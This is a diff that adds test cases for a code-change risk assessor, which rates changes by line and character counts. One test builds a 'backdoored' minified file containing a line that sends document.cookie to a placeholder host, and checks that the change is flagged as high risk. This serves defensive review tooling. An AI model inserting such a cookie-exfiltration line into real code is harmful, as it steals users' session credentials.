@@ -37,6 +37,31 @@ describe('assessRisk', () => {
     expect(risk.reasons).toEqual(['10 changed lines (low risk needs fewer than 10)'])
   })
 
+  it('not low: a one-line change of 40 KB in a minified file (size counts characters, not only lines)', () => {
+    const minified = `!function(){${'var a=1;'.repeat(5000)}}();\n`
+    const backdoored = minified.replace('var a=1;', 'fetch("https://x.invalid/"+document.cookie);var a=1;')
+    const risk = assessRisk([change('src/vendor.min.js', minified, backdoored)], opts)
+    expect(risk.level).toBe('high')
+    // The old and the new line both count: the reviewer reads what goes and what comes.
+    const size = minified.length + backdoored.length
+    expect(risk.reasons).toContain(`${size} changed characters (too large to review; high from 20000)`)
+    expect(risk.reasons.some(r => r.includes('changed lines in source files only'))).toBe(false)
+  })
+
+  it('medium: a few lines that change more than 1000 characters, or one line too long to read', () => {
+    const long = `x = "${'a1b2'.repeat(300)}"`
+    const risk = assessRisk([edited('src/app.py', APP, 'timeout=10', `timeout=10\n${long}`)], opts)
+    expect(risk.level).toBe('medium')
+    expect(risk.reasons).toEqual([
+      expect.stringMatching(/^\d+ changed characters \(low risk needs fewer than 1000\)$/),
+      expect.stringMatching(/^an added line of 120\d characters \(low risk needs lines of at most 500\)$/)
+    ])
+    const wide = `y = "${'z'.repeat(600)}"`
+    const one = assessRisk([created('src/wide.py', `${wide}\n`)], opts)
+    expect(one.reasons).toEqual(['an added line of 606 characters (low risk needs lines of at most 500)'])
+    expect(one.level).toBe('medium')
+  })
+
   it('medium: a dependency manifest (the seed example: requirements.txt gains pandas)', () => {
     const risk = assessRisk(
       [edited('requirements.txt', fixture('requirements.txt'), '', 'pandas==2.2.2')],
